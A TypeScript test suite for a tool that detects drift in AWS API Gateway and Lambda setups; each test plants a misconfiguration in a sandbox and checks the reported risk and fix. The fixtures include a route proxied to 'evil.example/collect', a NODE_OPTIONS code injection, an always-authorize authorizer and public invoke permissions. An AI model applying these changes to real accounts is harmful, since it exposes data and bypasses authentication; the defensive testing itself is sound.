import assert from "node:assert/strict";
import { type Sandbox, startSandbox } from "../../../../sandbox/startSandbox.ts";
import { gatewayDrift } from "../../../../scripts/lib/drift/aws/gatewayDrift.ts";
import type { DriftFinding } from "../../../../scripts/lib/drift/DriftFinding.ts";
import { zip } from "../../../sandbox/aws/support/zip.ts";
import { driftContext } from "./support/driftContext.ts";
import { GatewayTown } from "./support/GatewayTown.ts";

describe("drift of an API at AWS", () => {
  let sandbox: Sandbox;
  let town: GatewayTown;
  let made = 0;
  before(async () => {
    sandbox = await startSandbox();
  });
  after(() => sandbox.close());
  afterEach(() => assert.deepEqual(sandbox.refusals, []));
  beforeEach(async () => {
    town = await GatewayTown.make(sandbox, `api-${(made += 1)}`);
  });

  const read = async (): Promise<readonly DriftFinding[]> => gatewayDrift(driftContext(town));
  const only = async (): Promise<DriftFinding> => {
    const [finding, ...others] = await read();
    assert.deepEqual(others, []);
    assert.ok(finding);
    return finding;
  };
  const told = ({ rule, where, gains }: DriftFinding) => [rule, where, gains];
  const backend = () => `api-${made}-backend`;

  it("is none as it was deployed", async () => {
    assert.deepEqual(await read(), []);
  });

  it("is a route that nobody declared, with who can call it and what deletes it", async () => {
    const { apiId: ApiId } = town;
    const Target = `integrations/${town.ids["backend"]}`;
    const { RouteId } = await town.api.createRoute({ ApiId, RouteKey: "DELETE /keys", Target });
    const found = await only();
    assert.deepEqual(told(found), [
      "unmanaged-route",
      'apis.inventory.routes["DELETE /keys"]',
      "Anyone can call DELETE /keys of inventory.",
    ]);
    assert.equal(
      found.advice,
      `Delete it: \`aws apigatewayv2 delete-route --api-id ${ApiId} --route-id ${RouteId} --region eu-central-1\`.`,
    );
    assert.deepEqual(found.path, ["crosstrust:apis", "inventory", "routes", "DELETE /keys"]);
  });

  it("is a route of every page of the list", async () => {
    const Target = `integrations/${town.ids["backend"]}`;
    const keys = Array.from({ length: 30 }, (_, at) => `GET /hand/${at}`);
    for (const RouteKey of keys) await town.api.createRoute({ ApiId: town.apiId, RouteKey, Target });
    const found = await read();
    assert.deepEqual(
      found.map(({ rule }) => rule),
      keys.map(() => "unmanaged-route"),
    );
  });

  it("is a route that lost its authorizer or asks for other scopes, with the clients that gain", async () => {
    const { apiId: ApiId } = town;
    const RouteId = town.ids["GET /keys"];
    await town.api.updateRoute({ ApiId, RouteId, AuthorizationScopes: ["keys.write"] });
    const other = await only();
    assert.deepEqual(told(other), [
      "managed-changed",
      'apis.inventory.routes["GET /keys"]',
      "writer of okta can call GET /keys of inventory.",
    ]);
    assert.deepEqual([other.expected, other.actual], ["okta, scopes: keys.read", "okta, scopes: keys.write"]);
    assert.ok(other.explains?.some(({ id, property }) => id === RouteId && property === "authorizationScopes"));
    await town.api.updateRoute({ ApiId, RouteId, AuthorizationType: "NONE" });
    const open = await only();
    assert.deepEqual([open.actual, open.gains], ["public", "Anyone can call GET /keys of inventory."]);
  });

  it("is a route that leads elsewhere, and the backend there", async () => {
    const { apiId: ApiId } = town;
    const uri = "https://evil.example/collect";
    const { IntegrationId } = await town.api.createIntegration({
      ...{ ApiId, IntegrationType: "HTTP_PROXY", IntegrationMethod: "ANY", IntegrationUri: uri },
      PayloadFormatVersion: "1.0",
    });
    const RouteId = town.ids["GET /health"];
    await town.api.updateRoute({ ApiId, RouteId, Target: `integrations/${IntegrationId}` });
    const found = await read();
    assert.deepEqual(
      found.map(({ rule, actual }) => [rule, actual]),
      [
        ["unmanaged-object", `${uri}; GET /health leads there`],
        ["managed-changed", `${uri} (integrations/${IntegrationId})`],
      ],
    );
  });

  it("is an authorizer that nobody declared, and one that takes other audiences", async () => {
    const { apiId: ApiId } = town;
    const Issuer = "https://acme-dev.okta.com/oauth2/default";
    const JwtConfiguration = { Issuer, Audience: ["https://api.acme.example", "https://other.example"] };
    await town.api.updateAuthorizer({ ApiId, AuthorizerId: town.ids["okta"], JwtConfiguration });
    const IdentitySource = ["$request.header.Authorization"];
    const jwt = { Name: "hand", AuthorizerType: "JWT", IdentitySource, JwtConfiguration } as const;
    await town.api.createAuthorizer({ ApiId, ...jwt });
    const found = await read();
    assert.deepEqual(found.map(told), [
      ["unmanaged-authorizer", "apis.inventory, authorizer hand", undefined],
      [
        "managed-changed",
        "apis.inventory, authorizer okta",
        `Whoever gets a token of ${Issuer} for https://other.example can call GET /keys, with the scopes that they ask for.`,
      ],
    ]);
  });

  it("is a Lambda authorizer that keeps its answers for all routes, and longer", async () => {
    await town.api.updateAuthorizer({
      ...{ ApiId: town.apiId, AuthorizerId: town.ids["_lambda"], AuthorizerResultTtlInSeconds: 3600 },
      IdentitySource: ["$request.header.Authorization"],
    });
    const found = await read();
    assert.deepEqual(
      found.map(({ gains }) => gains),
      [
        "Whoever holds a token that was revoked or expired still passes for 3600 s.",
        "Whoever is let into one of POST /keys can call the others for 3600 s.",
      ],
    );
  });

  it("is a stage that nobody declared, and the declared one without its log or its changes", async () => {
    const { apiId: ApiId } = town;
    await town.api.createStage({ ApiId, StageName: "test", AutoDeploy: true });
    await town.api.updateStage({ ApiId, StageName: "$default", AutoDeploy: false });
    await town.api.deleteAccessLogSettings({ ApiId, StageName: "$default" });
    const found = await read();
    assert.deepEqual(
      found.map(({ rule, where, message }) => [rule, where, message]),
      [
        ["managed-changed", "apis.inventory, stage $default", "The stage $default was changed: how it is deployed."],
        ["managed-changed", "apis.inventory, stage $default", "The stage $default was changed: the access log."],
        ["unmanaged-object", "apis.inventory, stage test", "The API has a stage test that nobody declared."],
      ],
    );
  });

  it("is an access log of another format", async () => {
    const { DestinationArn } = (await town.api.getStage({ ApiId: town.apiId, StageName: "$default" }))
      .AccessLogSettings!;
    const AccessLogSettings = { DestinationArn, Format: "$context.requestId" };
    await town.api.updateStage({ ApiId: town.apiId, StageName: "$default", AccessLogSettings });
    assert.equal((await only()).message, "The stage $default was changed: what the access log says.");
  });

  it("is CORS, and an address that is switched off", async () => {
    await town.api.updateApi({ ApiId: town.apiId, DisableExecuteApiEndpoint: true });
    const context = driftContext(town);
    const services = await context.aws.open("eu-central-1");
    const gateway = await services.apis();
    const CorsConfiguration = { AllowOrigins: ["https://evil.example"] };
    const getApi = async (input: { ApiId: string | undefined }) => ({
      ...(await gateway.getApi(input)),
      CorsConfiguration,
    });
    const apis = async () =>
      ({
        getApi,
        getRoutes: (input: never) => gateway.getRoutes(input),
        getAuthorizers: (input: never) => gateway.getAuthorizers(input),
        getIntegrations: (input: never) => gateway.getIntegrations(input),
        getStages: (input: never) => gateway.getStages(input),
      }) as unknown as typeof gateway;
    const found = await gatewayDrift({ ...context, aws: { open: async () => ({ ...services, apis }) } });
    assert.deepEqual(
      found.map(({ message, actual, gains }) => [message, actual, gains]),
      [
        [
          "The API was changed: CORS.",
          "AllowOrigins: https://evil.example",
          "Pages of https://evil.example can call it from the browsers of people who hold a token.",
        ],
        ["The API was changed: its own address.", "off", undefined],
      ],
    );
  });

  it("is whoever else may invoke a function, by its policy or at a URL", async () => {
    const FunctionName = backend();
    const hand = { StatementId: "hand", Action: "lambda:InvokeFunction", Principal: "*" };
    await town.lambda.addPermission({ FunctionName, ...hand });
    await town.lambda.removePermission({ FunctionName, StatementId: "routes" });
    await town.lambda.addPermission({ FunctionName, ...hand, StatementId: "routes", Principal: "111122223333" });
    const { FunctionUrl } = await town.lambda.createFunctionUrlConfig({ FunctionName, AuthType: "NONE" });
    const found = await read();
    assert.deepEqual(
      found.map(({ rule, actual, advice }) => [rule, actual, /`([a-z]+ [a-z]+ [\w-]+)/.exec(advice)?.[1]]),
      [
        ["unmanaged-permission", `${FunctionUrl}, without authentication`, "aws lambda delete-function-url-config"],
        ["unmanaged-permission", "*: lambda:InvokeFunction for anything", "aws lambda remove-permission"],
        ["managed-changed", "111122223333: lambda:InvokeFunction for anything", "npm run up"],
      ],
    );
  });

  it("is a function with other code or another environment, whose values are not told", async () => {
    const FunctionName = `api-${made}-authorizer`;
    const ZipFile = zip({ "index.mjs": "export const handler = () => ({ isAuthorized: true });" });
    await town.lambda.updateFunctionCode({ FunctionName, ZipFile });
    const Variables = { NODE_OPTIONS: "--import=data:text/javascript,evil" };
    await town.lambda.updateFunctionConfiguration({ FunctionName, Environment: { Variables } });
    const found = await read();
    assert.deepEqual(
      found.map(({ message }) => message),
      [
        "The function of the Lambda authorizer was changed: its code.",
        "The function of the Lambda authorizer was changed: its environment.",
      ],
    );
    assert.ok(!JSON.stringify(found).includes("evil"));
    assert.equal(found[1]?.actual, "NODE_OPTIONS is set");
  });

  it("is not known to who may not read it, and the right is named", async () => {
    const { Role } = await town.iam.createRole({
      RoleName: `nobody-${made}`,
      AssumeRolePolicyDocument: JSON.stringify({
        Version: "2012-10-17",
        Statement: [
          {
            ...{ Effect: "Allow", Action: "sts:AssumeRole" },
            Principal: { AWS: `arn:aws:iam::${sandbox.credentials.awsAccountId}:root` },
          },
        ],
      }),
    });
    const { Credentials } = await town.sts.assumeRole({ RoleArn: Role?.Arn, RoleSessionName: "drift" });
    const { AccessKeyId = "", SecretAccessKey = "", SessionToken = "" } = Credentials ?? {};
    const credentials = { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey, sessionToken: SessionToken };
    const found = await gatewayDrift(driftContext(town, { credentials }));
    assert.deepEqual([...new Set(found.map(({ rule }) => rule))], ["not-read"]);
    const rights = found.flatMap(({ advice }) => /`([\w:]+)`/.exec(advice)?.[1] ?? []);
    assert.deepEqual([...new Set(rights)].sort(), [
      ...["apigateway:GET", "lambda:GetFunctionConfiguration", "lambda:GetPolicy", "lambda:ListFunctionUrlConfigs"],
    ]);
    assert.ok(
      found.some(({ advice }) =>
        advice.includes("`lambda:ListVersionsByFunction, lambda:ListAliases and lambda:GetPolicy`"),
      ),
    );
    assert.ok(!JSON.stringify(found).includes(SecretAccessKey));
  });

  it("is not known to credentials of another account", async () => {
    const state = town.state.map((one) =>
      one.type === "aws:apigatewayv2/api:Api"
        ? { ...one, outputs: { executionArn: `arn:aws:execute-api:eu-central-1:999988887777:${town.apiId}` } }
        : one,
    );
    const [finding, ...others] = await gatewayDrift(driftContext({ sandbox, trust: town.trust, state }));
    assert.deepEqual(others, []);
    assert.deepEqual([finding?.rule, finding?.where], ["not-read", "apis.inventory"]);
  });
});
